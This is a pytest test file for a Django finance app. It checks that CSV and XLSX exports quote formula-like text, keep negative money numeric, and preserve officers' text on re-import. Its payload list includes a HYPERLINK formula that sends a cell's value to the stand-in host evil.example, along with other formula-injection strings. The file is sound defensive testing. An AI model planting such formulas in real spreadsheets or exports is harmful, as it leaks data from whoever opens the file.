"""Formula injection (issue 17, finding 2): text in every CSV and XLSX the app writes is never
a formula, negative money stays a number, and a template imported back keeps the text."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from ascweb.cells import restore, spreadsheet_text
from finance.models import LineForecast, ReportingLine

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&C6,"Click")', "+1+1", "-1+1", "@SUM(1,1)"]
EXPLAINED = ["CS-COM", "STU-OP", "STU-STAFF", "CS-NORSE"]
OVERSPEND = "-£1m overspend"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        *((payload, "'" + payload) for payload in PAYLOADS),
        ("\tSUM(1)", "'\tSUM(1)"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # text that looks quoted itself gets a second quote, so it comes back as written
        ("Overspend on =care", "Overspend on =care"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        (None, ""),
        (-1.5, "-1.5"),  # a number is never quoted
    ],
)
def test_the_rule_and_its_reverse(text, written):
    assert spreadsheet_text(text) == written
    if isinstance(text, str):
        assert restore(written) == text


@pytest.fixture
def hostile_names(open_period):
    """Reporting lines named by the payloads (names are text in every revenue table), in the
    open Period 11 (a published period keeps the names it was published with)."""
    lines = {}
    for code, payload in zip(EXPLAINED, PAYLOADS, strict=True):
        ReportingLine.objects.filter(code=code).update(name=payload)
        lines[code] = payload
    return lines


@pytest.fixture
def hostile_explanations(demo):
    """Officer explanations in Period 10, the payloads and an officer's '-£1m overspend'."""
    texts = dict(zip(EXPLAINED, PAYLOADS, strict=True))
    texts["STU-INC"] = OVERSPEND
    for code, text in texts.items():
        LineForecast.objects.filter(period__number=10, line__code=code).update(explanation=text)
    return texts


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def _sheet(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content)).active


def _no_formulas(sheet) -> None:
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []


def test_table_downloads_as_csv_quote_formula_text_and_keep_negative_money(officer_client, hostile_names):
    rows = _csv(officer_client.get("/periods/2017-18/11/tables/appendix-a.csv"))
    labels = [row[0] for row in rows]
    for payload in PAYLOADS:
        assert "'" + payload in labels
        assert payload not in labels
    income = next(row for row in rows if row[0] == "Service User Income")
    assert income[1] == "-76.870"  # negative money: a plain number, not quoted


def test_table_downloads_as_xlsx_are_never_formulas_and_negative_money_is_a_number(officer_client, hostile_names):
    sheet = _sheet(officer_client.get("/periods/2017-18/11/tables/appendix-a.xlsx"))
    _no_formulas(sheet)
    cells = {row[0].value: row for row in sheet.iter_rows() if row[0].value}
    for payload in PAYLOADS:
        assert cells["'" + payload][0].data_type == "s"
    income = cells["Service User Income"]
    assert (income[1].data_type, float(income[1].value)) == ("n", -76.87)


def test_the_export_table_command_quotes_formula_text(hostile_names, tmp_path):
    path = tmp_path / "a.csv"
    call_command("export_table", year="2017-18", period=11, table="appendix-a", output=str(path))
    labels = [row[0] for row in csv.reader(io.StringIO(path.read_text()))]
    assert {"'" + payload for payload in PAYLOADS} <= set(labels)


def test_templates_quote_formula_text_and_keep_negative_money(officer_client, hostile_explanations):
    rows = _csv(officer_client.get("/periods/2017-18/10/templates/period.csv"))
    explanations = {row[0]: row[5] for row in rows[1:]}
    for code, text in hostile_explanations.items():
        assert explanations[code] == "'" + text
    income = next(row for row in rows if row[0] == "STU-INC")
    assert income[3:5] == ["-76870000", "-86734000"]
    sheet = _sheet(officer_client.get("/periods/2017-18/10/templates/period.xlsx"))
    _no_formulas(sheet)
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for code, text in hostile_explanations.items():
        assert (cells[code][5].value, cells[code][5].data_type) == ("'" + text, "s")
    assert (cells["STU-INC"][3].data_type, cells["STU-INC"][3].value) == ("n", -76870000)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_template_imported_back_keeps_the_officers_text(hostile_explanations, tmp_path, suffix):
    template = tmp_path / f"t.{suffix}"
    call_command("export_template", year="2017-18", period=10, output=str(template), stdout=io.StringIO())
    call_command("import_period", str(template), year="2017-18", period=11, stdout=io.StringIO(), stderr=io.StringIO())
    explanations = dict(
        LineForecast.objects.filter(period__number=11, line__code__in=hostile_explanations).values_list(
            "line__code", "explanation"
        )
    )
    assert explanations == hostile_explanations
